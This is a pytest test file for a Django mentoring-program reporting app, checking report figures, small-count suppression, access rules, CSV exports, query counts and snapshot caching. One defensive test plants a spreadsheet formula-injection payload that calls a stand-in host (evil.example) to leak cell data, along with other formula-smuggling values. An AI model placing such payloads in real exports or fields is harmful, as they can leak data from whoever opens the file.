"""Reports: every figure against a small case computed by hand, who may see which report, the
period form, CSV exports, constant queries, and that no one's answers reach a report page.

The case (region West, "now" is 2025-06-15 16:00 UTC, the period is the first quarter of 2025):

Program P1 (new-member, Westfield). Applications, submitted (local time):
    m1 01-10 matched  m2 02-01 matched  m3 03-05 matched  m4 2024-12-31 23:59 withdrawn (before)
    m5 04-01 00:01 withdrawn (after)   m6 draft   m7 2024-10-01 matched   m9 2024-09-01 withdrawn
    w1, w2, w3 in the pool since 2024-11-01, 04-10, 05-15: 226, 66 and 31 whole days (outside the period)
    mentors t1 01-05 in pool, t2 02-20 awaiting vetting, t3 2024-11-01 more info, t4 03-01 declined
Partnerships (all with mentor t1), created at local noon:
    pA m1 01-20 active (10 days)   pB m2 02-05 dissolved 03-01 schedules (4 days)
    pC m2 03-10 active, a re-match (37 days)   pD m3 03-06 completed 03-30 (1 day)
    pE m7 2024-10-15 completed 2024-12-31   pF m9 2024-09-10 dissolved 02-10 schedules
Feedback in the period: 7 asked, 5 answered: 5, 4, 4, 3, 1 (mean 3.4); one more answer in April.
Goals: pA 3 (1 achieved), pD 1 achieved.

Program L (leadership, region West): mentees l1 (Weston) 01-15 and l2 (Westfield) 02-15, mentor
lt1 (Weston) 01-02. pL1 l1 01-20, pL2 l2 02-18 (5 and 3 days). 4 asked, 4 answered: 5, 4, 2, 3;
lt1 recommends l1 for a leadership role, not l2.
"""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.conf import settings
from django.core.cache import cache
from django.db import connection
from django.template.loader import render_to_string
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import User
from conftest import comparable
from feedback.models import Response
from mentoring.cycles import copy_program
from mentoring.models import (
    Application,
    AssociationOfficer,
    LocalAssociation,
    Objective,
    Partnership,
    Program,
    Region,
    SiteSettings,
)
from mentoring.services import accept_pledge, create_program
from partnerships.models import Goal
from reports import figures as reports
from reports import tasks, views
from reports.models import ReportDay, ReportSnapshot
from reports.tests.factories import (
    NOW,
    Q1,
    Q1_QUERY,
    SECRET,
    apply,
    ask,
    grow,
    local,
    pair,
    person,
    recommend_for_leadership,
)
from reports.views import SUPPRESSED_TEXT

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_now")]


def figures(west, by="program", k=5, period=Q1):
    return reports.all_figures([west["p1"], west["lead"]], period, k=k)[by]


def as_dict(f):
    return {name: getattr(f, name) for name in f.__dataclass_fields__}


# --- Figures ----------------------------------------------------------------------------------


def test_program_figures_computed_by_hand(west):
    f = figures(west)[west["p1"].pk]
    assert as_dict(f) == {
        "mentees_applied": 3,  # m1, m2, m3: not m4 (Dec 31, 23:59), m5 (Apr 1, 00:01), the draft
        "mentors_applied": 3,  # t1, t2, t4: not t3 (November)
        "awaiting_vetting": 2,  # t2 and t3 (more information asked), whenever they applied
        "matched": 4,  # pA, pB, pC, pD
        "median_days_to_match": 7.0,  # 1, 4, 10, 37: (4 + 10) / 2
        "active": 2,  # pA, pC (now)
        "completed": 1,  # pD; pE ended in December
        "dissolved": 2,  # pB, pF (started before the period, ended in it)
        "rematched": 1,  # pC, after pB was dissolved
        "asked": 7,
        "answered": 5,
        "response_rate": 71.4,
        "responses": 5,
        "satisfaction": 3.4,  # (5 + 4 + 4 + 3 + 1) / 5
        "distribution": {1: 1, 2: 0, 3: 1, 4: 2, 5: 1},
        "waiting": 3,
        "median_days_waiting": 66.0,  # whole days since they applied: 226, 66, 31
        "longest_wait": 226,
        "goals": 4,
        "goals_achieved": 2,
        "flash_held": 0,  # counted in flash/tests (test_the_reports_count_conversations_held_...)
        "circle_meetings_held": 0,  # counted in test_circle_figures.py
        "circles_meeting": 0,
        "circle_members": 0,
    }
    assert f.completion_rate == 33.3 and f.goal_rate == 50.0


def test_median_days_to_match_with_an_odd_count(west):
    # To March 7: pA (10), pB (4) and pD (1); pC starts on March 10.
    f = figures(west, period=reports.Period(date(2025, 1, 1), date(2025, 3, 7)))[west["p1"].pk]
    assert f.matched == 3 and f.median_days_to_match == 4.0


def test_leadership_program_has_too_few_answers_and_asks(west):
    f = figures(west)[west["lead"].pk]
    assert (f.mentees_applied, f.mentors_applied, f.matched, f.active) == (2, 1, 2, 2)
    assert f.median_days_to_match == 4.0  # 5 and 3 days
    # k - 1 = 4 answers and 4 asks: both suppressed, the counts stay.
    assert (f.asked, f.answered, f.responses) == (4, 4, 4)
    assert f.response_rate is None and f.satisfaction is None and f.distribution == {}
    # With k = 4 they show.
    f = figures(west, k=4)[west["lead"].pk]
    assert f.response_rate == 100.0 and f.satisfaction == 3.5  # (5 + 4 + 2 + 3) / 4
    assert f.distribution == {1: 0, 2: 1, 3: 1, 4: 1, 5: 1}


def test_satisfaction_shows_at_k_answers_and_not_at_k_minus_one(west):
    p1 = west["p1"].pk
    assert figures(west, k=5)[p1].satisfaction == 3.4  # 5 answers
    f = figures(west, k=6)[p1]
    assert f.satisfaction is None and f.distribution == {} and f.responses == 5
    # Seven asks: the rate shows at k = 7, not at k = 8.
    assert figures(west, k=7)[p1].response_rate == 71.4
    assert figures(west, k=8)[p1].response_rate is None


def test_the_staff_threshold_in_site_settings_is_the_default(west):
    p1 = west["p1"].pk
    assert reports.all_figures([west["p1"]], Q1)["program"][p1].satisfaction == 3.4  # default 5
    SiteSettings.objects.update_or_create(pk=1, defaults={"report_min_responses": 6})
    assert reports.all_figures([west["p1"]], Q1)["program"][p1].satisfaction is None


def test_totals_over_all_programs(west):
    f = figures(west, by="all")[0]
    assert (f.mentees_applied, f.mentors_applied, f.awaiting_vetting, f.matched) == (5, 4, 2, 6)
    assert f.median_days_to_match == 4.5  # 1, 3, 4, 5, 10, 37
    assert (f.active, f.completed, f.dissolved, f.rematched) == (4, 1, 2, 1)
    assert (f.asked, f.answered, f.response_rate) == (11, 9, 81.8)
    assert (f.responses, f.satisfaction) == (9, 3.44)  # 31 / 9
    assert f.distribution == {1: 1, 2: 1, 3: 2, 4: 3, 5: 2}
    assert (f.waiting, f.goals, f.goals_achieved) == (3, 4, 2)


def test_grouped_by_the_mentees_association(west):
    rows = figures(west, by="association")
    westfield, weston = rows[west["westfield"].pk], rows[west["weston"].pk]
    # pL2's mentee is from Westfield, its mentor from Weston: it counts for Westfield.
    assert (westfield.mentees_applied, westfield.mentors_applied, westfield.awaiting_vetting) == (4, 3, 2)
    assert (westfield.matched, westfield.active, westfield.completed, westfield.dissolved) == (5, 3, 1, 2)
    assert westfield.median_days_to_match == 4.0  # 1, 3, 4, 10, 37
    assert (westfield.asked, westfield.answered, westfield.response_rate) == (9, 7, 77.8)
    assert (westfield.responses, westfield.satisfaction) == (7, 3.14)  # 22 / 7
    assert westfield.distribution == {1: 1, 2: 1, 3: 2, 4: 2, 5: 1}
    assert (weston.mentees_applied, weston.mentors_applied, weston.matched, weston.active) == (1, 1, 1, 1)
    assert weston.median_days_to_match == 5.0
    assert (weston.asked, weston.responses) == (2, 2)
    assert weston.response_rate is None and weston.satisfaction is None


def test_trend_by_month_with_small_months_suppressed(west):
    rows = reports.trend([west["p1"], west["lead"]], Q1, 3)
    assert rows == [
        {"month": date(2025, 1, 1), "applied": 4, "matched": 2, "responses": 2, "satisfaction": None},
        {"month": date(2025, 2, 1), "applied": 3, "matched": 2, "responses": 3, "satisfaction": 4.33},
        {"month": date(2025, 3, 1), "applied": 2, "matched": 2, "responses": 4, "satisfaction": 2.25},
    ]
    assert all(m["satisfaction"] is None for m in reports.trend([west["p1"], west["lead"]], Q1, 5))


def test_closure_reasons(west):
    assert reports.closure_reasons([west["p1"], west["lead"]], Q1, 1) == [
        ("Schedules did not fit", 2),
        ("Completed as planned", 1),
    ]
    assert reports.closure_reasons([west["lead"]], Q1, 1) == []


def test_a_reason_given_fewer_than_k_times_is_hidden_and_cannot_be_worked_out(west):
    """Why a partnership ended is a person's situation: 1 is a person. With k = 2 the single
    completion is hidden, and the 2 schedules too, or the total of 3 ended would give it away."""
    assert reports.closure_reasons([west["p1"], west["lead"]], Q1, 2) == [
        ("Completed as planned", None),
        ("Schedules did not fit", None),
    ]
    assert reports.closure_reasons([west["p1"], west["lead"]], Q1, 5) == [
        ("Completed as planned", None),
        ("Schedules did not fit", None),
    ]


def test_retention_per_association(west):
    table = reports.retention([west["westfield"], west["weston"]])
    # Westfield: mentees m1, m2, m3 (lapsed), m7, m9, l2; mentor t1; 13 did not take part (m4-m6,
    # w1-w3, t2-t4, o1, o2, the chair and the committee member; m4 renewal due, t3 lapsed).
    # Weston: l1, lt1, and the VP and o3 (lapsed).
    assert table[west["westfield"].pk] == {"mentees": [6, 5], "mentors": [1, 1], "others": [13, 11]}
    assert table[west["weston"].pk] == {"mentees": [1, 1], "mentors": [1, 1], "others": [2, 1]}
    assert reports.rate([6, 5]) == 83.3 and reports.rate([13, 11]) == 84.6 and reports.rate([2, 1]) == 50.0
    assert reports.rate([1, 1], k=5) is None and reports.rate([0, 0]) is None
    assert reports.program_retention([west["p1"], west["lead"]]) == {
        west["p1"].pk: 83.3,  # m1, m2, m3 (lapsed), m7, m9 and t1
        west["lead"].pk: 100.0,
    }


def test_objectives_against_their_targets(west):
    programs = [west["p1"], west["lead"]]
    rows = reports.objectives_progress(programs, figures(west), reports.program_retention(programs))
    got = {(r["objective"].program_id, r["objective"].measure): (r["value"], r["target"], r["met"]) for r in rows}
    p1, lead = west["p1"].pk, west["lead"].pk
    assert got == {
        (p1, "satisfaction"): (3.4, 3.5, False),
        (p1, "response_rate"): (71.4, 70.0, True),
        (p1, "completion"): (33.3, 30.0, True),
        (p1, "retention"): (83.3, 90.0, False),
        (p1, "goal_progress"): (50.0, 50.0, True),  # met at exactly the target
        (p1, "other"): (None, None, False),
        (lead, "satisfaction"): (None, 4.0, False),  # too few answers: never "met"
    }
    assert [r["measured"] for r in rows if r["objective"].measure == "other"] == [False]


def test_the_objectives_read_with_the_programs_are_those_read_on_their_own(west, django_assert_num_queries):
    """The report pages read the objectives with their programs (reports.figures.with_objectives):
    the same objectives, targets and order as reading them apart, and no query of their own."""
    create_program(name="Weston new members", kind="new_member", association=west["weston"])  # none
    Objective.objects.create(program=west["lead"], description="Leaders stay", measure="retention", target="87.5")
    read = list(reports.region_programs(west["region"]))
    assert len(read) == 3
    by_program, retention = figures(west), reports.program_retention(read)
    with django_assert_num_queries(0):
        together = reports.objectives_progress(read, by_program, retention)
    apart = reports.objectives_progress([Program.objects.get(pk=p.pk) for p in read], by_program, retention)

    def shown(rows):
        return [
            (r["objective"].pk, r["objective"].program.name, r["objective"].description, r["objective"].measure)
            + (r["objective"].get_measure_display(), r["objective"].target, r["value"], r["target"], r["met"])
            for r in rows
        ]

    assert shown(together) == shown(apart) and len(together) == 8
    assert shown(together)[0][1] == "West leaders" and shown(together)[1][5] == Decimal("87.5")


def test_waiting_when_nobody_waits(west):
    Application.objects.filter(status="in_pool", role="mentee").update(status="withdrawn")
    f = figures(west)[west["p1"].pk]
    assert (f.waiting, f.median_days_waiting, f.longest_wait) == (0, None, None)


def test_default_period_is_twelve_calendar_months(west):
    for today in (date(2025, 6, 15), date(2025, 3, 1), date(2025, 8, 31), date(2024, 2, 29), date(2025, 1, 1)):
        period = reports.default_period(today)
        assert len(period.months) == 12, today
        assert period.start.day == 1 and period.end == today
        assert period.months[-1] == today.replace(day=1)


# --- Leadership pipeline --------------------------------------------------------------------


def south_leadership_recommendation(world):
    """A recommendation in another region's leadership program (and one in a new-member program,
    which has no such question but must not show even if the field were set)."""
    south, southbury = world["regions"]["south"], world["associations"]["southbury"]
    program = create_program(name="South leaders", kind="leadership", region=south)
    mentee = person("sally@south.example.org", southbury, first_name="Sally", last_name="Southern")
    mentor = person("sam@south.example.org", southbury)
    mentee_app = apply(program, mentee, "mentee", "matched", local(2025, 1, 3))
    mentor_app = apply(program, mentor, "mentor", "matched", local(2025, 1, 3))
    partnership = pair(mentee_app, mentor_app, local(2025, 1, 10))
    ask(partnership, "mentor", 1, local(2025, 2, 1), answered=local(2025, 2, 2), satisfaction=5)
    Response.objects.filter(partnership=partnership).update(recommends_for_leadership=True)
    recommend_for_leadership(partnership, south, local(2025, 2, 3))


def test_pipeline_lists_the_regions_recommended_members_who_agreed(west):
    south_leadership_recommendation(west["world"])
    # A feedback answer alone ("I recommend my mentee") does not show: the mentee has not agreed.
    Response.objects.filter(partnership=west["partnerships"]["A"]).update(recommends_for_leadership=True)
    rows = reports.leadership_pipeline(west["region"])
    assert rows == [
        {
            "name": "Liam First",
            "email": "l1@west.example.org",
            "association": "Weston",
            "program": "West leaders",
            "date": local(2025, 2, 21, 22, 0),
            "stage": "Matched",
        }
    ]


def test_the_pipeline_follows_the_period(west, client):
    assert [r["name"] for r in reports.leadership_pipeline(west["region"], period=Q1)] == ["Liam First"]
    april = reports.Period(date(2025, 4, 1), date(2025, 6, 30))
    assert reports.leadership_pipeline(west["region"], period=april) == []
    client.force_login(west["vp"])
    page = client.get(region_url(west), {"start": "2025-04-01", "end": "2025-06-30"})
    assert page.context["pipeline"] == []


def test_pipeline_on_the_page_shows_the_recommendation_and_nothing_else(west, client):
    south_leadership_recommendation(west["world"])
    client.force_login(west["vp"])
    body = client.get(reverse("region_report", args=[west["region"].pk]), Q1_QUERY).content.decode()
    section = body[body.index('id="h-pipeline"') :]
    assert "Liam First" in section and "Feb 21, 2025" in section
    assert "Lena Second" not in section and "Sally" not in body
    # Nothing else from that answer: not its words, how often they met, the wish for a new partner.
    assert SECRET not in body and "About every week" not in body and "new partner" not in body
    assert "l1@west.example.org" not in body


# --- Views: who sees what -------------------------------------------------------------------


def region_url(west):
    return reverse("region_report", args=[west["region"].pk])


def program_url(west):
    return reverse("committee:report", args=[west["p1"].pk])


def test_the_page_lists_the_50_latest_recommendations_and_the_export_all_of_them(west, client):
    lead, weston = west["lead"], west["weston"]
    mentor = apply(lead, person("many.mentor@west.example.org", weston), "mentor", "matched", local(2025, 1, 2))
    for i in range(51):
        mentee = person(f"rec{i:02}@west.example.org", weston, first_name="Rec", last_name=f"{i:02}")
        p = pair(apply(lead, mentee, "mentee", "matched", local(2025, 1, 3)), mentor, local(2025, 1, 10))
        ask(p, "mentor", 1, local(2025, 2, 1), answered=local(2025, 2, 2) + timedelta(minutes=i), satisfaction=4)
        recommend_for_leadership(p, west["region"], local(2025, 2, 2) + timedelta(minutes=i))
    client.force_login(west["vp"])
    response = client.get(region_url(west), Q1_QUERY)
    shown = [r["name"] for r in response.context["pipeline"]]
    assert len(shown) == 50 and shown[0] == "Liam First" and shown[1] == "Rec 50" and "Rec 00" not in shown
    assert "The 50 most recent recommendations; export the table for all of them." in response.content.decode()
    rows = list(csv.reader(io.StringIO(client.get(region_url(west), Q1_QUERY | {"export": "pipeline"}).text)))
    assert len(rows) == 1 + 52 and rows[-1][0] == "Rec 00"


def test_the_vp_sees_their_region_and_404_for_another(west, client):
    client.force_login(west["vp"])
    response = client.get(region_url(west), Q1_QUERY)
    assert response.status_code == 200
    body = response.content.decode()
    assert "West region" in body and "Westfield new members" in body and "West leaders" in body
    assert "Northport new members" not in body
    assert [a.name for a, _ in response.context["association_rows"]] == ["Westfield", "Weston"]
    north = west["world"]["regions"]["north"]
    assert client.get(reverse("region_report", args=[north.pk])).status_code == 404
    assert client.get(reverse("region_report", args=[north.pk + 1000])).status_code == 404
    # Another region's VP gets the same 404 on this one.
    client.force_login(west["world"]["people"]["vp"])
    assert client.get(region_url(west)).status_code == 404


def test_a_region_without_local_associations_has_its_report_too(west, client):
    """The region is read with its associations (reports.views._region_or_404): one without any
    is read on its own, for its VP and staff, and is the same 404 as a missing one for others."""
    south = Region.objects.create(name="Far South", vice_president=person("vp.south@example.org", west["westfield"]))
    client.force_login(south.vice_president)
    response = client.get(reverse("region_report", args=[south.pk]), Q1_QUERY)
    assert response.status_code == 200 and "Far South region" in response.content.decode()
    assert response.context["association_rows"] == []
    client.force_login(west["vp"])
    forbidden = client.get(reverse("region_report", args=[south.pk]))
    missing = client.get(reverse("region_report", args=[south.pk + 1000]))
    assert forbidden.status_code == missing.status_code == 404 and comparable(forbidden) == comparable(missing)
    client.force_login(west["world"]["people"]["staff"])
    assert client.get(reverse("region_report", args=[south.pk]), Q1_QUERY).status_code == 200


def test_staff_see_any_region(west, client):
    client.force_login(west["world"]["people"]["staff"])
    assert client.get(region_url(west), Q1_QUERY).status_code == 200


@pytest.mark.parametrize("who", ["committee", "member", "vp", "other_chair", "chair_of_north", "staff"])
def test_only_the_chair_opens_the_program_report(west, client, who):
    people = west["world"]["people"]
    user = {
        "committee": west["committee"],
        "member": west["users"]["m1"],
        "vp": west["vp"],
        "other_chair": people["other_chair"],
        "chair_of_north": people["chair"],
        "staff": people["staff"],
    }[who]
    client.force_login(user)
    assert client.get(program_url(west), Q1_QUERY).status_code == 404
    assert client.get(program_url(west), {**Q1_QUERY, "export": "programs"}).status_code == 404


def test_the_chairs_program_report(west, client):
    client.force_login(west["chair"])
    response = client.get(program_url(west), Q1_QUERY)
    assert response.status_code == 200
    ctx = response.context
    assert [p.pk for p, _ in ctx["program_rows"]] == [west["p1"].pk]
    assert ctx["totals"].matched == 4 and ctx["totals"].satisfaction == 3.4
    assert "association_rows" not in ctx and "pipeline" not in ctx
    assert ctx["workload"]["vetting"] == 2
    body = response.content.decode()
    assert "Mean <strong>3.4</strong> out of 5, from 5 answers" in body
    assert "Leadership pipeline" not in body and "West leaders" not in body


def test_k_minus_one_answers_show_as_too_few_on_the_page(west, client):
    client.force_login(west["chair"])
    SiteSettings.objects.update_or_create(pk=1, defaults={"report_min_responses": 6})
    response = client.get(program_url(west), Q1_QUERY)
    body = response.content.decode()
    assert response.context["totals"].satisfaction is None
    assert "Too few answers to report (5)" in body and "Mean <strong>" not in body
    assert SUPPRESSED_TEXT in body
    assert "fewer than 6 feedback answers" in body


def test_region_page_hides_the_small_program_and_what_would_give_it_away(west, client):
    client.force_login(west["vp"])
    response = client.get(region_url(west), Q1_QUERY)
    rows = {p.name: f for p, f in response.context["program_rows"]}
    # West leaders has 4 answers (k = 5): hidden. Westfield's 5 would give them away (9 in all,
    # mean 3.44, minus Westfield's 5 with mean 3.4): hidden too. The total stays.
    assert rows["West leaders"].satisfaction is None and rows["West leaders"].response_rate is None
    assert rows["Westfield new members"].satisfaction is None and rows["Westfield new members"].response_rate is None
    assert (response.context["totals"].responses, response.context["totals"].satisfaction) == (9, 3.44)
    by_association = {a.name: f for a, f in response.context["association_rows"]}
    assert by_association["Westfield"].satisfaction is None  # 7 of 9: Weston's 2 would follow
    body = response.content.decode()
    row = body[body.index('<th scope="row">West leaders</th>') :].split("</tr>")[0]
    assert SUPPRESSED_TEXT in row
    retention = {a.name: (m, mt, o) for a, m, mt, o in response.context["retention_rows"]}
    # k = 5: groups of fewer than five members are suppressed too.
    assert retention == {"Westfield": (83.3, None, 84.6), "Weston": (None, None, None)}


def test_no_individual_answer_or_note_reaches_a_report_page(west, client):
    client.force_login(west["vp"])
    pages = [client.get(region_url(west), Q1_QUERY), client.get(region_url(west))]
    client.force_login(west["chair"])
    pages += [client.get(program_url(west), Q1_QUERY), client.get(program_url(west))]
    for table in ("programs", "trend", "objectives", "closures", "satisfaction"):
        pages.append(client.get(program_url(west), {**Q1_QUERY, "export": table}))
    for response in pages:
        assert response.status_code == 200
        body = response.content.decode()
        assert SECRET not in body
        assert "@west.example.org" not in body


# --- The period -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"start": "abc", "end": "2025-03-31"}, "Enter a valid date."),
        ({"start": "2025-03-31", "end": "2025-01-01"}, "The end of the period is before its start."),
        ({"start": "1800-01-01", "end": "1800-12-31"}, "Choose a period between 2000 and next year."),
        ({"start": "2014-01-01", "end": "2024-01-01"}, "Choose a period of five years at most."),
        ({"start": "2025-01-01"}, "This field is required."),
        ({"start": "2025-01-01\x00", "end": "9999-99-99"}, "Enter a valid date."),
    ],
)
def test_a_bad_period_shows_a_message_and_the_last_twelve_months(west, client, query, message):
    client.force_login(west["vp"])
    response = client.get(region_url(west), query)
    assert response.status_code == 200
    body = response.content.decode()
    assert message in body and "Showing the last twelve months instead." in body
    assert response.context["period"] == reports.Period(date(2024, 7, 1), date(2025, 6, 15))
    # The CSV falls back the same way, without an error.
    export = client.get(region_url(west), {**query, "export": "trend"})
    assert export.status_code == 200 and len(list(csv.reader(io.StringIO(export.content.decode())))) == 13


def test_a_good_period_is_used(west, client):
    client.force_login(west["vp"])
    response = client.get(region_url(west), Q1_QUERY)
    assert response.context["period"] == Q1
    assert "Showing the last twelve months" not in response.content.decode()
    assert [m["month"] for m in response.context["trend"]] == [date(2025, 1, 1), date(2025, 2, 1), date(2025, 3, 1)]


# --- CSV exports ----------------------------------------------------------------------------

EXPORTS = {
    "programs": ["Program", "Mentees applied", "Mentors applied"],
    "associations": ["Local association", "Mentees applied"],
    "trend": ["Month", "Applications", "Matched", "Feedback answers", "Mean satisfaction"],
    "funnel": ["Step", "Members"],
    "satisfaction": ["Satisfaction", "Answers"],
    "closures": ["Why partnerships ended", "Partnerships"],
    "objectives": ["Program", "Objective", "Now", "Target"],
    "retention": ["Local association", "Mentees renewed (%)", "Mentors renewed (%)", "Others renewed (%)"],
    "pipeline": ["Member", "Local association", "Recommended in", "Agreed", "Where they are"],
}


def export(client, url, table, query=Q1_QUERY):
    response = client.get(url, {**query, "export": table})
    assert response.status_code == 200, table
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("table", list(EXPORTS))
def test_each_table_exports_as_csv(west, client, table):
    client.force_login(west["vp"])
    rows = export(client, region_url(west), table)
    assert rows[0][: len(EXPORTS[table])] == EXPORTS[table]
    body = {
        "programs": lambda: (
            {r[0]: r for r in rows[1:]}["Westfield new members"][1:5] == ["3", "3", "4", "7.0"]
            and {r[0]: r for r in rows[1:]}["Westfield new members"][rows[0].index("Today: Mentors awaiting vetting")]
            == "2"
        ),
        "associations": lambda: [r[0] for r in rows[1:]] == ["Westfield", "Weston"],
        "trend": lambda: (
            rows[1:]
            == [
                ["2025-01", "4", "2", "2", SUPPRESSED_TEXT],
                ["2025-02", "3", "2", "3", SUPPRESSED_TEXT],
                ["2025-03", "2", "2", "4", SUPPRESSED_TEXT],
            ]
        ),
        "funnel": lambda: rows[1:] == [["Mentees applied", "5"], ["Matched", "6"], ["Completed", "1"]],
        "satisfaction": lambda: rows[1:] == [["1", "1"], ["2", "1"], ["3", "2"], ["4", "3"], ["5", "2"]],
        # 1 and 2 are below the threshold of 5: the reasons are listed, their counts hidden.
        "closures": lambda: (
            rows[1:] == [["Completed as planned", SUPPRESSED_TEXT], ["Schedules did not fit", SUPPRESSED_TEXT]]
        ),
        "objectives": lambda: ["Westfield new members", "Objective satisfaction", SUPPRESSED_TEXT, "3.5"] in rows,
        "retention": lambda: (
            rows[1:] == [["Westfield", "83.3", SUPPRESSED_TEXT, "84.6"], ["Weston", *[SUPPRESSED_TEXT] * 3]]
        ),
        # The day as shown on the page (local time), not the UTC day of the late-evening answer.
        "pipeline": lambda: rows[1:] == [["Liam First", "Weston", "West leaders", "2025-02-21", "Matched"]],
    }[table]()
    assert body, rows


def test_satisfaction_export_when_suppressed(west, client):
    SiteSettings.objects.update_or_create(pk=1, defaults={"report_min_responses": 50})
    client.force_login(west["chair"])
    assert export(client, program_url(west), "satisfaction") == [["Satisfaction", "Answers"], ["all", SUPPRESSED_TEXT]]


def test_the_chair_exports_and_unknown_tables_are_404(west, client):
    client.force_login(west["chair"])
    for table in ("programs", "trend", "funnel", "satisfaction", "closures", "objectives"):
        assert export(client, program_url(west), table)[0][: len(EXPORTS[table])] == EXPORTS[table]
    for table in ("associations", "retention", "pipeline", "nonsense", ""):
        assert client.get(program_url(west), {"export": table}).status_code == 404


def test_formula_cells_are_quoted_in_exports(west, client):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    Program.objects.filter(pk=west["p1"].pk).update(name=formula)
    Objective.objects.filter(pk=west["objectives"]["other"].pk).update(description="+SUM(1,2)")
    LocalAssociation.objects.filter(pk=west["weston"].pk).update(name="@Weston")
    User.objects.filter(pk=west["users"]["l1"].pk).update(first_name="-2+3")
    client.force_login(west["vp"])
    programs = export(client, region_url(west), "programs")
    assert "'" + formula in [r[0] for r in programs]
    assert formula not in [r[0] for r in programs]
    objectives = export(client, region_url(west), "objectives")
    # Not measured, no target: empty cells, not "too few to report".
    assert ["'" + formula, "'+SUM(1,2)", "", ""] in objectives
    assert ["West leaders", "Leaders are happy", SUPPRESSED_TEXT, "4.0"] in objectives
    assert "'@Weston" in [r[0] for r in export(client, region_url(west), "associations")]
    assert export(client, region_url(west), "pipeline")[1][:2] == ["'-2+3 First", "'@Weston"]
    # The page itself shows the name as text, escaped.
    page = client.get(region_url(west), Q1_QUERY).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)" in page


# --- Constant queries -----------------------------------------------------------------------


def test_the_region_page_costs_the_same_queries_at_10x_the_data(west, client, django_assert_max_num_queries):
    client.force_login(west["vp"])
    url = region_url(west)
    grow(west, 3, 0)
    client.get(url, {"start": "2025-01-01", "end": "2025-01-31"})  # warm-up: the site settings row, the session
    # The first reader of Q1 after a snapshot draws the figures (their totals are in the
    # context): the session, the user, the region with its associations, its programs with their
    # objectives, the snapshot (with the threshold), its figures (one), the survey questions
    # (two), the pipeline (one, never cached: it names people), the navigation's roles. The
    # next ones find the figures drawn (reports.views._sections): 7.
    with django_assert_max_num_queries(10):
        response = client.get(url, Q1_QUERY)
    assert response.status_code == 200 and response.context["totals"]
    with django_assert_max_num_queries(7):
        assert client.get(url, Q1_QUERY).status_code == 200
    reports.take_snapshot()  # as the job runs: with snapshots before it to drop
    grow(west, 1, 500)  # a change in each program and association
    with CaptureQueriesContext(connection) as taking:
        reports.take_snapshot()
    grow(west, 30, 1000)
    assert Partnership.objects.filter(program__in=[west["p1"], west["lead"]]).count() == 8 + 2 * 34
    # Taking the figures is grouped in the database too: the same queries for thirty times the changes.
    with django_assert_max_num_queries(len(taking.captured_queries)):
        reports.take_snapshot()
    with django_assert_max_num_queries(10):
        response = client.get(url, Q1_QUERY)
    assert response.status_code == 200
    assert response.context["totals"].matched == 6 + 2 * 34
    with django_assert_max_num_queries(7):
        assert client.get(url, Q1_QUERY).status_code == 200
    # The chair's page too.
    client.force_login(west["chair"])
    program = program_url(west)
    with CaptureQueriesContext(connection) as ctx:
        client.get(program, Q1_QUERY)
    grow(west, 10, 5000)
    reports.take_snapshot()
    with django_assert_max_num_queries(len(ctx.captured_queries)):
        response = client.get(program, Q1_QUERY)
    assert response.status_code == 200 and response.context["totals"].matched == 4 + 10 + 34


def matched(response):
    """The funnel's "Matched", as the page shows it (the figures may come drawn from the cache)."""
    return int(re.search(r'<th scope="row">Matched</th><td class="text-end">(\d+)</td>', response.content.decode())[1])


def test_the_page_shows_the_figures_as_of_the_last_snapshot_until_the_next(west, client):
    client.force_login(west["vp"])
    url = region_url(west)
    response = client.get(url, Q1_QUERY)  # no snapshot yet: the page takes one
    first = ReportSnapshot.objects.get()
    assert matched(response) == 6
    assert "Figures as of Jun 15, 2025, 12:00 PM" in response.content.decode()  # one time format (issue 25)
    a = west["apps"]
    pair(a["w1"], a["t1"], local(2025, 3, 15))
    assert matched(client.get(url, Q1_QUERY)) == 6  # not yet
    with time_machine.travel(NOW + timedelta(minutes=10), tick=False):
        tasks.take_report_snapshot.apply().get()  # the scheduled job, run in this process
        response = client.get(url, Q1_QUERY)
    assert matched(response) == 7
    assert response.context["snapshot"].taken_at == NOW + timedelta(minutes=10)
    # The first was taken over five minutes before the newer one: no page reads it any more.
    assert list(ReportSnapshot.objects.values_list("pk", flat=True)) == [first.pk + 1]


def test_figures_older_than_an_hour_are_taken_again_by_the_page(west, client):
    client.force_login(west["vp"])
    url = region_url(west)
    client.get(url, Q1_QUERY)
    pair(west["apps"]["w1"], west["apps"]["t1"], local(2025, 3, 15))
    with time_machine.travel(NOW + reports.STALE_AFTER - timedelta(seconds=1), tick=False):
        assert matched(client.get(url, Q1_QUERY)) == 6
    with time_machine.travel(NOW + reports.STALE_AFTER + timedelta(seconds=1), tick=False):
        assert matched(client.get(url, Q1_QUERY)) == 7


def test_while_one_page_takes_stale_figures_the_others_show_the_old_ones(west, client):
    client.force_login(west["vp"])
    url = region_url(west)
    client.get(url, Q1_QUERY)
    pair(west["apps"]["w1"], west["apps"]["t1"], local(2025, 3, 15))
    later = NOW + reports.STALE_AFTER + timedelta(minutes=1)
    with time_machine.travel(later, tick=False):
        cache.add(reports.TAKING, True)  # another page is taking them right now
        try:
            assert matched(client.get(url, Q1_QUERY)) == 6
        finally:
            cache.delete(reports.TAKING)
        assert matched(client.get(url, Q1_QUERY)) == 7


def test_a_snapshot_stays_readable_for_minutes_after_a_newer_one_replaced_its_rows(west):
    def goals(snapshot):
        return reports.all_figures([west["p1"]], Q1, k=5, snapshot=snapshot)["program"][west["p1"].pk].goals

    snapshots = [reports.take_snapshot()]  # at NOW
    for minutes in (1, 4, 10):
        with time_machine.travel(NOW + timedelta(minutes=minutes), tick=False):
            Goal.objects.create(partnership=west["partnerships"]["A"], title=f"Goal {minutes}", progress="achieved")
            snapshots.append(reports.take_snapshot())
    assert len({s.pk for s in snapshots}) == 4  # each change, a snapshot
    # At +10 min, those taken over five minutes before (NOW, +1, +4) went; the newest never goes.
    assert [s.pk for s in ReportSnapshot.objects.order_by("pk")] == [snapshots[-1].pk]
    with time_machine.travel(NOW + timedelta(minutes=12), tick=False):
        Goal.objects.filter(title="Goal 10").delete()
        late = reports.take_snapshot()
